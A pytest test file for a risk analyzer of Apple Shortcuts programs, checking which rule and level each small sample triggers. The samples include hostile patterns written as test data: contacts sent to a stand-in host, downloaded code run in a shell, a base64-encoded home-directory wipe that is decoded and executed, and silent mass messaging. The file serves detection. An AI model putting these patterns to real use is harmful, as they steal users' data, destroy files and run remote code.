"""Findings and their levels, on small hostile and harmless programs."""

from __future__ import annotations

import pytest

from tests.explain.kit import flows, report, rules

_OWN = "is_workflow_actions_"
_WEB = f'code = {_OWN}downloadurl(WFURL="https://a.example/code")\n'
_ASK = f'answer = {_OWN}ask(WFAskActionPrompt="Sure?")\n'
_CODED = f'a = {_OWN}gettext(WFTextActionText="cm0gLXJmIH4=")\nb = {_OWN}base64encode(WFInput=a, WFEncodeMode="Decode")\n'

CASES = [
    (f"x = {_OWN}filter_contacts()\n{_OWN}downloadurl(WFURL=f'https://a.example/{{x}}')\n", "network-flow", "high"),
    (f"x = {_OWN}filter_contacts()\n{_OWN}share(WFInput=x)\n", "share-flow", "low"),
    (f"x = {_OWN}getcurrentsong()\n{_OWN}downloadurl(WFURL=f'https://a.example/{{x}}')\n", "network-flow", "low"),
    (_ASK + f"{_OWN}downloadurl(WFURL=f'https://a.example/{{answer}}')\n", "network-flow", "low"),
    (_ASK + f"{_OWN}downloadurl(WFURL=f'https://{{answer}}/{{answer}}')\n", "network-flow", "medium"),
    (f"x = {_OWN}filter_files()\n{_OWN}file_delete(WFInput=x)\n", "deletes", "medium"),
    (f"{_OWN}file_delete(WFInput=x, WFDeleteFileConfirmDeletion=False)\n", "deletes-unconfirmed", "high"),
    (_ASK + f"{_OWN}file_delete(WFInput=x, WFDeleteImmediatelyDelete=True)\n", "deletes-unconfirmed", "medium"),
    (f"{_OWN}deletephotos(photos=x)\n", "deletes", "medium"),
    (f"{_OWN}removeevents(WFInputEvents=x)\n", "deletes", "medium"),
    ("com_apple_MobileSMS_DeleteMessageIntent(target=x)\n", "deletes", "medium"),
    (f'{_OWN}setters_contacts(WFInput=x, Mode="Set")\n', "edits", "medium"),
    (f"{_OWN}documentpicker_save(WFInput=x, WFAskWhereToSave=False, WFSaveFileOverwrite=True)\n", "overwrites", "medium"),
    (f"{_OWN}wifi_set(OnValue=False)\n", "setting", "low"),
    (f'{_OWN}sendmessage(WFSendMessageContent="a", ShowWhenRun=False)\n', "sends-alone", "medium"),
    (f'{_OWN}sendmessage(WFSendMessageContent="a", ShowWhenRun=True)\n', "sends", "low"),
    (f'for index in range(1, 100):\n    {_OWN}sendmessage(WFSendMessageContent="a", ShowWhenRun=False)\n', "sends-alone", "high"),
    (f'{_OWN}sendemail(WFSendEmailActionSubject="a", WFSendEmailActionShowComposeSheet=False)\n', "unconfirmed", "low"),
    (_WEB + f'{_OWN}runshellscript(Script=f"{{code}}")\n', "web-run", "high"),
    (_WEB + f'{_OWN}runsshscript(WFSSHScript=f"{{code}}", WFSSHHost="b.example")\n', "web-run", "high"),
    (_WEB + f'{_OWN}runjavascriptonwebpage(WFJavaScript=f"{{code}}")\n', "web-run", "high"),
    (_WEB + 'com_jiejinghe_luke_RunPythonIntent(code=f"{code}")\n', "web-run", "high"),
    (_WEB + f"{_OWN}openurl(WFInput=code)\n", "web-opened", "medium"),
    (_WEB + f"{_OWN}runworkflow(WFWorkflow=code)\n", "runs-any-shortcut", "high"),
    (_CODED + f'{_OWN}runshellscript(Script=f"{{b}}")\n', "decoded-run", "high"),
    (_CODED + f"{_OWN}openurl(WFInput=b)\n", "decoded-opened", "medium"),
    (f"{_OWN}runshellscript(Script=f'{{clipboard()}}')\n", "clipboard-run", "medium"),
    (f'{_OWN}runshellscript(Script="ls", RunAsRoot=True)\n', "script-as-root", "high"),
    (f'{_OWN}openurl(WFInput="https://www.icloud.com/shortcuts/0123456789abcdef")\n', "imports-shortcut", "medium"),
    (f'{_OWN}openurl(WFInput="shortcuts://import-shortcut?url=https://a.example/x&silent=true")\n', "imports-shortcut", "medium"),
    (f'{_OWN}downloadurl(WFURL="https://a.example")\n', "sends-unasked", "low"),
    (f'for index in range(1, 9):\n    {_OWN}downloadurl(WFURL="https://a.example")\n    {_OWN}delay()\n', "repeats-with-waits", "medium"),
    (f'{_OWN}runworkflow(WFWorkflow=dict(workflowName="Me", isSelf=True))\n', "runs-itself", "medium"),
    (f'{_OWN}downloadurl(WFURL=opaque("{{}}"))\n', "opaque-value", "low"),
    ('opaque_action("5")\n', "opaque-action", "medium"),
]


@pytest.mark.parametrize(("text", "rule", "level"), CASES, ids=[f"{rule}-{number}" for number, (_, rule, _) in enumerate(CASES)])
def test_a_rule_finds_its_case(text: str, rule: str, level: str) -> None:
    assert rules(text).get(rule) == level


HARMLESS = [
    f'{_OWN}showresult(Text="Hello")\n',
    _ASK + f'{_OWN}downloadurl(WFURL="https://a.example")\n',
    f'match menu("Go?"):\n    case "Yes":\n        {_OWN}vibrate()\n',
]


@pytest.mark.parametrize("text", HARMLESS)
def test_nothing_is_found_where_nothing_is(text: str) -> None:
    found = report(text)
    assert (found.risk, found.findings) == ("low", ())


def test_an_alert_without_a_way_back_is_no_question() -> None:
    sent = f'{_OWN}sendmessage(WFSendMessageContent="a", ShowWhenRun=False)\n'
    asked = f'{_OWN}alert(WFAlertActionMessage="Go?")\n'
    told = f'{_OWN}alert(WFAlertActionMessage="Go!", WFAlertActionCancelButtonShown=False)\n'
    assert "changes-unasked" not in rules(asked + sent)
    assert "changes-unasked" in rules(told + sent)


def test_a_question_in_one_branch_is_not_surely_asked() -> None:
    sent = f'{_OWN}sendmessage(WFSendMessageContent="a", ShowWhenRun=False)\n'
    inside = f'if x is not None:\n    {_OWN}ask(WFAskActionPrompt="Sure?")\n'
    assert "changes-unasked" in rules(inside + sent)
    assert "changes-unasked" not in rules(inside + f'else:\n    {_OWN}ask(WFAskActionPrompt="Sure?")\n' + sent)


def test_permissions_are_named_with_their_lines() -> None:
    found = report(f"{_OWN}getcurrentlocation()\n{_OWN}selectphoto()\n{_OWN}getcurrentlocation()\n")
    assert [(one.need, found.lines_of(one.actions)) for one in found.permissions] == [("location", [1, 3]), ("photos", [2])]


def test_the_outline_says_blocks_and_actions() -> None:
    text = _ASK + f'if answer == "a":\n    {_OWN}vibrate()\nelse:\n    {_OWN}showresult(Text="b")\n'
    said = [(step.depth, step.text) for step in report(text).outline]
    assert said == [(0, "asks you"), (0, "if answer is a"), (1, "vibrates"), (0, "otherwise"), (1, "shows a result")]


def test_the_risk_is_that_of_the_gravest_finding() -> None:
    found = report(_WEB + f'{_OWN}runshellscript(Script=f"{{code}}")\n')
    assert found.risk == "high"
    assert [finding.level for finding in found.findings] == sorted((f.level for f in found.findings), key=["high", "medium", "low"].index)


def test_the_document_names_every_rule() -> None:
    from tests.guards.house import REPOSITORY

    document = (REPOSITORY / "docs" / "explain.md").read_text(encoding="utf-8")
    missing = {rule for _, rule, _ in CASES if f"`{rule}`" not in document and not rule.endswith("-flow")}
    assert missing == set()


def test_a_way_that_begins_here_tells_where_here_is() -> None:
    text = 'x = is_workflow_actions_gettraveltime(WFDestination="Rochester")\n'
    assert ("location", "apple", "Apple Maps") in flows(text)
    other = 'x = is_workflow_actions_gettraveltime(WFDestination="Rochester", WFGetDirectionsFrom="Custom Location")\n'
    assert ("location", "apple", "Apple Maps") not in flows(other)
